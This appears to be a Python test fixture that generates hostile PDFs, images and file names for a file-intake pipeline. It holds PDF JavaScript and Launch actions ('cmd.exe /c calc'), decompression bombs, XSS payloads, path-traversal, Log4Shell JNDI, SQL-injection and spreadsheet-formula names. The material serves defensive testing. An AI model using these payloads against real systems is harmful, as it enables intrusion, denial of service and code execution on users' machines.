"""PDF files and pictures that nobody should open, and file names that want to be something else."""

import struct
import zlib

from tests.corpus.hostile.material import CANARY, File, File_of
from tests.corpus.intake.hostile import real
from tests.corpus.tampered.hostile import plain

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Resources<<>>%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def opened(action: bytes, *more: bytes) -> bytes:
    """A page of paper that does something when it is opened."""
    return plain(b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>>>" % (action, action), PAGES, PAGE % b"", *more)


def on_page(entries: bytes, *more: bytes) -> bytes:
    """A page of paper with something on it."""
    return plain(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE % entries, *more)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream of a PDF."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def squeezed(megabytes: int, times: int = 1) -> bytes:
    """Zeros, squeezed as often as told."""
    data = zlib.compress(bytes(megabytes * 1024 * 1024), 9)
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def link(uri: bytes) -> bytes:
    """A place on the page that leads elsewhere."""
    return on_page(b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(%s)>>>>]" % uri)


def encrypted() -> bytes:
    """Says it is locked, by a method of its own."""
    return plain(
        b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE % b"",
        trailer=b"/Encrypt<</Filter/Standard/V 5/R 6/O(x)/U(x)/P -1/OE(x)/UE(x)>>/ID[(a)(b)]",
    )  # fmt: skip


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """A picture that says it is this large."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data or zlib.compress(bytes(100))) + chunk(b"IEND", b"")


_JS = b"<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('%s/js'\\))>>" % CANARY.encode()
_C = CANARY.encode()
PAPERS: dict[str, File_of] = {
    "runs a script when opened": lambda: opened(_JS),
    "starts a program": lambda: opened(b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    "sends a form": lambda: opened(b"<</S/SubmitForm/F<</FS/URL/F(%s/form)>>>>" % _C),
    "opens an address": lambda: opened(b"<</S/URI/URI(%s/uri)>>" % _C),
    "opens another file": lambda: opened(b"<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\x.pdf)/D[0/Fit]>>"),
    "imports data": lambda: opened(b"<</S/ImportData/F<</FS/URL/F(%s/fdf)>>>>" % _C),
    "link that is a script": lambda: link(b"javascript:alert(1)"),
    "link to the canary": lambda: link(_C + b"/link"),
    "picture elsewhere": lambda: on_page(b"/Contents 4 0 R", stream(b"", b"/F<</FS/URL/F(%s/stream)>>" % _C)),
    "scripts by name": lambda: plain(b"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a) 4 0 R]>>>>>>", PAGES, PAGE % b"", _JS),
    "form of another kind": lambda: plain(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>", PAGES, PAGE % b"",
        stream(b'<!DOCTYPE x [<!ENTITY a SYSTEM "%s/xfa">]><xdp>&a;</xdp>' % _C),
    ),
    "embedded program": lambda: plain(
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(x.exe) 4 0 R]>>>>>>", PAGES, PAGE % b"",
        b"<</Type/Filespec/F(../../x.exe)/EF<</F 5 0 R>>>>", stream(b"MZ" + bytes(4000)),
    ),
    "film on the page": lambda: on_page(b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<<>>>>>>]"),
    "pages in a circle": lambda: plain(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "parents in a circle": lambda: plain(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Parent 3 0 R>>", b"<</Parent 2 0 R/Kids[2 0 R]>>"),
    "two billion pages": lambda: plain(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 2147483647>>"),
    "page of a kilometre": lambda: plain(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]>>"),
    "picture of a hundred thousand dots square": lambda: on_page(
        b"/Contents 4 0 R", stream(squeezed(100), b"/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode")
    ),
    "content of 400 MB": lambda: on_page(b"/Contents 4 0 R", stream(squeezed(400), b"/Filter/FlateDecode")),
    "content squeezed four times": lambda: on_page(b"/Contents 4 0 R", stream(squeezed(100, 4), b"/Filter[" + b"/FlateDecode " * 4 + b"]")),
    "table that leads to itself": lambda: plain(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE % b"", trailer=b"/Prev 9"),
    "table far outside": lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\nstartxref\n99999999999999\n%%EOF",
    "table before the file": lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\nstartxref\n-20\n%%EOF",
    "no end": lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 50_000,
    "string that never ends": lambda: b"%PDF-1.7\n1 0 obj (" + b"(" * 200_000,
    "number of a million digits": lambda: plain(b"<</Type/Catalog/Pages 2 0 R/X %s>>" % (b"9" * 1_000_000), PAGES),
    "names of odd letters": lambda: plain(b"<</Type/Catalog/Pages 2 0 R/#00#0a<<>>/#ff 1>>", PAGES, PAGE % b""),
    "locked": encrypted,
    "cut in the middle": lambda: on_page(b"")[:150],
    "a hundred thousand comments": lambda: b"%PDF-1.7\n" + b"%\n" * 1_000_000 + on_page(b""),
    "web page inside": lambda: b"%PDF-1.7\n<html><script>alert(1)</script></html>" + on_page(b""),
    "title of scripts": lambda: plain(
        b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE % b"",
        trailer=b"/Info<</Title(<script>alert\\(1\\)</script>)/Author(\"><img src=x onerror=alert\\(1\\)>)>>",
    ),
    "signer of scripts": lambda: plain(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/SigFlags 3>>>>", PAGES, PAGE % b"",
        b"<</FT/Sig/T(<script>alert\\(1\\)</script>)/V 5 0 R>>",
        b"<</Type/Sig/Name(<img src=x onerror=alert\\(1\\)>)/Reason(<svg onload=alert\\(1\\)>)/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 1 2 3]/Contents<00>>>",
    ),
}  # fmt: skip
PICTURES: dict[str, tuple[str, File_of]] = {
    "of four billion dots": ("a.png", lambda: png(65_535, 65_535)),
    "of no dots": ("a.png", lambda: png(0, 0)),
    "that unfolds to 300 MB": ("a.png", lambda: png(10_000, 10_000, squeezed(300))),
    "that is cut": ("a.png", lambda: png(10, 10)[:40]),
    "that is also a web page": ("a.png", lambda: png(1, 1) + b"<html><script>alert(1)</script></html>"),
    "with a script as its words": ("a.jpg", lambda: b"\xff\xd8\xff\xfe\x00\x30<script>alert(1)</script>" + bytes(500)),
    "that lies about its kind": ("a.jpg", lambda: b"\xff\xd8\xff<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "that is a drawing with a script": ("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="%s/svg"/></svg>' % _C),
}  # fmt: skip
NAMES = (
    "<script>alert(1)</script>.{}", '"><img src=x onerror=alert(1)>.{}', "../../../../etc/passwd.{}", "..\\..\\windows\\system32\\x.{}",
    "/etc/cron.d/x.{}", "a\0.{}", "计划\u202excod.{}", "\u200b\u2066\ufeff.{}", "x" * 3000 + ".{}", "a\r\nX-Injected: 1\r\n\r\n.{}", "con.{}", ".{}",
    "a.{}.", "a.exe.{}", "a.{};b.exe", "{{{{7*7}}}}{{% raw %}}.{}", "%00%2e%2e%2f.{}", "=cmd|' /c calc'!A0.{}", "a\u0301" * 300 + ".{}", "\U0001f600.{}",
    "", " ", "." * 200, "a.{}\u3002docx", "${{jndi:ldap://127.0.0.1:1/x}}.{}", "'; drop table plan; --.{}", "javascript:alert(1).{}", "\x1b[31mred.{}",
)  # fmt: skip


def _named(pattern: str, suffix: str) -> str:
    return pattern.format(suffix)


FILES: tuple[File, ...] = (
    *(File(f"paper: {kind}", "文件.pdf", make) for kind, make in PAPERS.items()),
    *(File(f"picture: {kind}", name, make) for kind, (name, make) in PICTURES.items()),
    *(File(f"name: {number}", _named(pattern, "docx"), real) for number, pattern in enumerate(NAMES)),
    *(File(f"name of a paper: {number}", _named(pattern, "pdf"), lambda: on_page(b"")) for number, pattern in enumerate(NAMES[:6])),
)
